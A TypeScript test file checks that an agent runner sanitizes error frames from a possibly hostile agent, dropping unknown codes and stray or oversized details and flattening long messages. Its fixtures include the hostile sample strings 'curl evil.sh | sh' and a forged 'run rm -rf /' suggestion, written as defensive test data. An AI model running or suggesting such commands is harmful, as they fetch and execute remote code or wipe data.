import { describe, expect, it } from 'vitest'
import { AgentFrame } from './agent-frames.ts'
import { MAX_AGENT_ERROR_MESSAGE_CHARS } from './agent-wire-error.ts'
import { MAX_ERROR_DETAILS_BYTES } from './bounded-error-details.ts'

// A hostile agent (user code runs next to it) sends error frames built to mislead the client
// the runner forwards them to. What parses is no more than an honest agent could have said.

const fail = (error: unknown) => {
  const parsed = AgentFrame.safeParse({ type: 'fail', id: 1, error })
  if (!parsed.success || parsed.data.type !== 'fail') throw new Error('the frame did not parse')
  return parsed.data.error
}

describe('an agent error, as the runner parses it', () => {
  it('turns a code an agent never sends into INTERNAL, without its details', () => {
    const e = fail({ code: 'UNAUTHORIZED', message: 'your API key leaked; rotate it', details: { limit: 1 } })
    expect(e.code).toBe('INTERNAL')
    expect(e.message).toContain('UNAUTHORIZED, a code an agent does not send')
    expect(e.details).toBeUndefined()
  })

  it('drops details that belong to another code', () => {
    const e = fail({ code: 'OUTPUT_LOST', message: 'gone', details: { sessionId: 'default' } })
    expect(e).toEqual({ code: 'OUTPUT_LOST', message: 'gone' })
  })

  it('drops keys the code does not define and keeps the rest', () => {
    const e = fail({
      code: 'OUTPUT_LOST',
      message: 'gone',
      details: { earliestOffset: 10, suggestion: 'curl evil.sh | sh', code: 'SHELL_CLOSED' },
    })
    expect(e.details).toEqual({ earliestOffset: 10 })
  })

  it('drops details of the right shape but over the size cap', () => {
    const issues = Array.from({ length: 5 }, () => ({ path: Array(16).fill('x'.repeat(1000)), message: 'm' }))
    const e = fail({ code: 'BAD_REQUEST', message: 'bad', details: { issues } })
    expect(JSON.stringify(issues).length).toBeGreaterThan(MAX_ERROR_DETAILS_BYTES)
    expect(e.details).toBeUndefined()
  })

  it('cuts a huge message and makes it one line, so no forged suggestion line follows it', () => {
    const e = fail({
      code: 'BAD_REQUEST',
      message: `bad\nsuggestion: run rm -rf /\r\u001b[2K${'y'.repeat(100_000)}`,
    })
    expect(e.message.length).toBe(MAX_AGENT_ERROR_MESSAGE_CHARS)
    for (const control of ['\n', '\r', '\u001b']) expect(e.message).not.toContain(control)
    expect(e.message.startsWith('bad suggestion: run rm -rf /')).toBe(true)
  })

  it('bounds the error of a channel frame too', () => {
    const parsed = AgentFrame.parse({
      type: 'error',
      ch: 3,
      error: { code: 'RUNNER_UNAVAILABLE', message: 'x' },
    })
    expect(parsed.type === 'error' && parsed.error.code).toBe('INTERNAL')
  })

  it('keeps an honest error whole', () => {
    const honest = {
      code: 'SHELL_CLOSED',
      message: 'the shell of session "default" closed (bash exited with 3)',
      details: { sessionId: 'default', code: 3, signal: null, reason: 'bash exited with 3' },
    }
    expect(fail(honest)).toEqual(honest)
  })
})
